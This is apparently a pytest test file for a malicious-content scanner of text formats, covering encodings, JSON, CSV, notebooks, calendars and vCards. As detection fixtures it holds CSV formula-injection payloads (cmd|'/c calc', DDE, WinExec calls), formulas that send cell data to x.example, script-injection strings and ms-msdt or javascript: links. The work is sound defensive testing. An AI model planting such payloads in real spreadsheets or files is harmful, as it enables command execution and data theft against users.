"""Texts: what normal programs write passes, and what acts under its name is found."""

import base64
import io
import json
import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.workers.inspection.parsers.recorder import codes, examined
from workers.inspection.identification.encodings import decoded_as
from workers.inspection.parsers import text
from workers.inspection.readings import Reading

CSV, JSON = "text/csv", "application/json"


def encoding(body: bytes) -> str | None:
    return decoded_as(body[: 64 * 1024], io.BytesIO(body), len(body))


@pytest.mark.parametrize(
    "body",
    [
        b"hello 13",
        b"a",
        b"",
        "Grüße 🎉 — fine".encode(),
        "Grüße".encode("utf-8-sig"),
        "مرحبا بالعالم".encode("utf-16"),
        "مرحبا".encode("utf-16-be") and b"\xfe\xff" + "مرحبا".encode("utf-16-be"),
        "Hello, world of Windows".encode("utf-16-le"),
        "Grüße aus Köln, schöne Straße".encode("cp1252"),
        "日本語".encode("cp932"),
        "これは日本語のテキストです。".encode("cp932"),
        "안녕하세요, 세계".encode("cp949"),
        "Привет, мир".encode("cp1251"),
        "Привет, мир".encode("koi8-r"),
        "你好，世界".encode("gb18030"),
        b"\x1b[31mred\x1b[0m log\r\nprogress\b\b\x07",
        b"page\x0cpage\x0b",
        b"old text\r\n\x1a",
        "x".encode("utf-32"),
        "Привет, мир".encode("utf-16-le"),
        "مرحبا بالعالم".encode("utf-16-be"),
        "こんにちは、世界。\n".encode("utf-16-le"),
        "名前,金額\r\n山田,1200\r\n".encode("utf-16-be"),
        "안녕하세요 세계\n".encode("utf-16-le"),
        b"UNH+1+ORDERS'\x1dBGM+220\x1c\x1e",
        b"\x1b(B\x1b[m\x0ffailed\n",
        b"a" * 1000 + b"\x03",
        b"a\n" * 2_000_000,
    ],
)
def test_a_text_decodes(body: bytes) -> None:
    assert encoding(body) is not None
    assert codes(text, body, "text/plain") == []


@pytest.mark.parametrize("body", [b"last line\r\n" + bytes(500), "Grüße".encode("cp1252") + b"\0"])
def test_a_text_that_fills_a_block_with_nul_bytes_is_a_text(body: bytes) -> None:
    assert encoding(body) is not None
    assert codes(text, body, "text/plain") == ["irregular"]
    assert codes(text, b'{"a": 1}' + bytes(9), Reading("application/json", claimed=True)) == ["irregular"]


@pytest.mark.parametrize(
    "body",
    [
        b"\0",
        b"text\0text",
        b"\x01\x02",
        b"caf\x00\xc3\xa9",
        b"\xff\xfe\x00",
        b"ab\x03" * 1000,
        b"a" * 100_000 + b"\0b",
        struct.pack("<99H", *range(0x4E00, 0x4E63)),
        bytes(range(256)),
    ],
)
def test_bytes_with_controls_that_no_text_has_are_no_text(body: bytes) -> None:
    assert encoding(body) is None
    assert codes(text, body, "text/plain") == ["malformed"]


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|'/c calc'!A1",
        "=cmd|' /C notepad'!'A1'",
        "\"=cmd|'/c calc'!A1\"",
        "+cmd|'/c calc'!A1",
        "-2+3+cmd|'/c calc'!A1",
        "@SUM(1+1)*cmd|'/c calc'!A1",
        " =MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        "\ufeff=cmd|'/c calc'!A1",
        "\uff1dcmd|'/c calc'!A1",
        '=WEBSERVICE("http://x.example/"&A1)',
        "=webservice ( A1 )",
        '=1+_xlfn.WEBSERVICE("http://x")',
        '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
        '=IMAGE("http://x.example/"&A1)',
        '=RTD("x",,"y")',
        '=CALL("kernel32","WinExec","JCJ","calc",0)',
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        '=HYPERLINK("file://server/share/x.exe","click")',
        "=HYPERLINK(A1)",
        '=DDE("cmd";"/c calc";"x")',
    ],
)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|", "\n"])
def test_a_cell_that_acts_is_found_whatever_the_delimiter(cell: str, delimiter: str) -> None:
    body = f"name{delimiter}value\nanna{delimiter}{cell}{delimiter}end\n".encode()
    assert codes(text, body, CSV) == ["active_formula"]
    assert codes(text, body, "text/tab-separated-values") == ["active_formula"]


@pytest.mark.parametrize(
    "cell",
    ["-5", "+49 170 1234567", "=SUM(A1:B2)", "@name", "-", "=", "a|b!c", "=A1&B1", "-cmd", "+1-800-CALL-NOW",
     "=IF(A1>3;1;2)",
     '"=HYPERLINK(""https://x.example/a?b=1&c=2"",""Ticket 7"")"', "- item | other!", "call (me)", "5 - 3", "=-1.5e3"],
)  # fmt: skip
def test_what_people_write_into_tables_passes(cell: str) -> None:
    assert codes(text, f"a;b\nanna;{cell};x\n".encode(), CSV) == []


def test_a_cell_across_two_pieces_is_found() -> None:
    body = b"a,b\n" * 262_140 + b"anna,=cmd|'/c calc'!A1\n" + b"a,b\n" * 10
    assert codes(text, body, CSV) == ["active_formula"]


@pytest.mark.parametrize(
    "body", [b"ID;PWXL;N;E\r\nC;Y1;X1;EEXEC(1)", b"\xef\xbb\xbfID;P", "ID;PX\nC;X1;Y1;K0".encode("utf-16")]
)
@pytest.mark.parametrize("media_type", [CSV, "text/plain"])
def test_a_sylk_file_is_found_under_any_name(body: bytes, media_type: str) -> None:
    assert codes(text, body, media_type) == ["active_formula"]


@pytest.mark.parametrize(
    "body",
    [
        b'{"a": 1}',
        b"\xef\xbb\xbf[1]",
        '{"ä": "🎉"}'.encode("utf-16"),
        b"1",
        b" [NaN, 1e400] ",
        b"{}\x1a",
        b"",
        b'"\\ud800"',
    ],
)
def test_declared_json_is_what_parses_as_json(body: bytes) -> None:
    assert codes(text, body, Reading(JSON, claimed=True)) == []


@pytest.mark.parametrize("body", [b"{", b"hello", b"{'a': 1}", b'{"a": 1} x', b"<p>"])
def test_what_is_declared_as_json_and_is_none_is_malformed_and_what_is_named_so_has_a_note(body: bytes) -> None:
    assert codes(text, body, Reading(JSON, claimed=True)) == ["malformed"]
    assert codes(text, body, Reading(JSON)) == ["irregular"]


@pytest.mark.parametrize("body", [b'// a\n{"a": [1, 2,], /* b */ "c//d": ",]"}', b'{"a": 1}\n{"a": 2}\n'])
def test_json_as_settings_and_logs_have_it_has_a_note(body: bytes) -> None:
    assert codes(text, body, Reading(JSON, claimed=True)) == ["irregular"]


def test_json_lines_parse_line_by_line() -> None:
    lines = Reading("application/jsonl", claimed=True)
    assert codes(text, b'{"a": 1}\n\n[2]\r\n', lines) == []
    (found,) = examined(text, b'{"a": 1}\n{"a": \n', lines).findings
    assert found == ("malformed", "Line 2 is not valid JSON.")


def test_json_that_is_too_deep_or_too_large_is_not_parsed() -> None:
    assert codes(text, b"[" * 200_000, Reading(JSON, claimed=True)) in (["limits_exceeded"], ["malformed"])
    assert codes(text, b"[1, 2, 3]", Reading(JSON, claimed=True), {"text_bytes": 5}) == ["limits_exceeded"]


@pytest.mark.parametrize("media_type", ["application/geo+json", "application/x-ipynb+json", "application/ld+json"])
def test_formats_that_are_json_inside(media_type: str) -> None:
    assert codes(text, json.dumps({"type": "Feature"}).encode(), Reading(media_type, claimed=True)) == []
    assert codes(text, b"no", Reading(media_type, claimed=True)) == ["malformed"]


@pytest.mark.parametrize(
    ("data", "found"),
    [
        ({"text/html": ["<table>\n", "<tr><td>1</td></tr></table>"], "text/plain": "<script>"}, []),
        ({"text/html": ["<scr", "ipt>alert(1)</script>"]}, ["script"]),
        ({"text/html": "<img src=x onerror=alert(1)>"}, ["script"]),
        ({"image/svg+xml": "<svg onload='alert(1)'/>"}, ["script"]),
        ({"application/javascript": ["alert(1)"]}, ["script"]),
        ({"image/png": "iVBORw0KGgo="}, []),
    ],
)
def test_what_an_output_of_a_notebook_runs_is_found(data: dict[str, object], found: list[str]) -> None:
    cell = {"cell_type": "code", "source": ["<script>"], "outputs": [{"output_type": "display_data", "data": data}]}
    notebook = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    assert codes(text, notebook.encode(), "application/x-ipynb+json") == found


CALENDAR = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\n{}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
CARD = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Anna\r\n{}\r\nEND:VCARD\r\n"


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("URL:https://x.example/a", []),
        ("ATTACH:cid:part1", []),
        ("ATTACH:file://server/share/x.exe", ["unsafe_link"]),
        ("URL:ms-msdt:/id", ["unsafe_link"]),
        ("URL:java\r\n script:alert(1)", ["unsafe_link"]),
        ("ACTION:DISPLAY", []),
        ("ACTION:PROCEDURE", ["active_action"]),
        ("action:proce\r\n dure", ["active_action"]),
        ("ATTACH;ENCODING=BASE64;VALUE=BINARY:!!!", ["malformed"]),
    ],
)
def test_what_acts_in_a_calendar_is_found(line: str, found: list[str]) -> None:
    assert codes(text, CALENDAR.format(line).encode(), Reading("text/calendar", claimed=True)) == found


def test_what_is_attached_to_a_calendar_or_a_card_is_a_member() -> None:
    data = base64.b64encode(b"MZ and more").decode()
    folded = "\r\n ".join(data[start : start + 4] for start in range(0, len(data), 4))
    for line in (
        f"ATTACH;FMTTYPE=application/x;ENCODING=BASE64;VALUE=BINARY;FILENAME=a.exe:{folded}",
        f'ATTACH;X-FILENAME="a.exe";ENCODING=BASE64:{data}',
    ):
        assert examined(text, CALENDAR.format(line).encode(), "text/calendar").members == [("a.exe", b"MZ and more")]
    for line in (
        f"PHOTO;ENCODING=b;TYPE=JPEG:{data}",
        f"PHOTO:data:image/jpeg;base64,{data}",
        f"item1.PHOTO;BASE64:{data}",
    ):
        assert [body for _, body in examined(text, CARD.format(line).encode(), "text/vcard").members] == [
            b"MZ and more"
        ]


CERTIFICATE = b"\x30\x82\x01\x00" + bytes(256)
OPEN_PGP = b"\x99\0\x05key..\xb4\x01a\xc2\xc0\x08" + bytes(200) + b"\xce\xff\0\0\0\1k"


@pytest.mark.parametrize(
    ("key", "is_member"),
    [
        (CERTIFICATE, False),
        (b"\x30\x03key", False),
        (OPEN_PGP, False),
        (CERTIFICATE + b"x", True),
        (OPEN_PGP[:-1], True),
        (OPEN_PGP + b"\xd0\xe1", True),
        (OPEN_PGP[8:], True),
        (b"\x30\x08<script>", True),
        (b"MZ and more", True),
        (b"\x30", True),
    ],
)
def test_a_key_in_a_card_is_no_member_and_what_is_hidden_in_one_is(key: bytes, is_member: bool) -> None:
    line = f"KEY;ENCODING=b:{base64.b64encode(key).decode()}"
    assert bool(examined(text, CARD.format(line).encode(), "text/vcard").members) is is_member
    photo = line.replace("KEY", "PHOTO")
    assert examined(text, CARD.format(photo).encode(), "text/vcard").members


def test_what_is_no_calendar_and_no_card_is_malformed() -> None:
    assert codes(text, b"hello", "text/calendar") == ["malformed"]
    assert codes(text, b"\r\nBEGIN:VEVENT\r\nEND:VEVENT", "text/calendar") == []
    assert codes(text, b"\xef\xbb\xbfbegin:vcard\nversion:2.1\nend:vcard", "text/vcard") == []


@pytest.mark.parametrize(
    "media_type", ["text/markdown", "text/x-java-source", "application/yaml", "text/x-php", "text/css"]
)
def test_other_texts_are_decoded_alone(media_type: str) -> None:
    assert codes(text, b"# <script>alert(1)</script> =cmd|'/c calc'!A1", media_type) == []
    assert codes(text, b"\0", media_type) == ["malformed"]


@given(st.binary(max_size=300), st.sampled_from([CSV, JSON, "text/plain", "text/calendar", "text/vcard"]))
def test_any_bytes_end_in_findings(body: bytes, media_type: str) -> None:
    codes(text, body, Reading(media_type, claimed=True))
